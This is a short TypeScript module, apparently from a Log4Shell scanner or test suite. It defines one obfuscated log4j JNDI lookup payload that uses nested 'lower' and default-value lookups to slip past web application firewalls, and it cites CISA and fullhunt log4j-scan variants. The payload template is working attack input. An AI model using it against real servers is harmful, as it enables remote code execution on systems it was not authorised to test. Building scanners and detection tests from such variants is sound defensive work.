import { afterScheme, disguise } from '../form.ts'

export const unknownPrefixLower = disguise(
  {
    id: 'unknown-prefix-lower',
    summary: 'lookups without a value mixed with lower:',
    firesOn: ['C'],
    seenIn: ['CISA log4j-scan waf18, waf20', 'fullhunt log4j-scan waf18, waf20'],
  },
  (target) => `\${\${k8s:k5:-J}\${lower:n}\${::-d}i\${sd:k5:-:}\${lower:${target.scheme}}:${afterScheme(target)}}`,
)
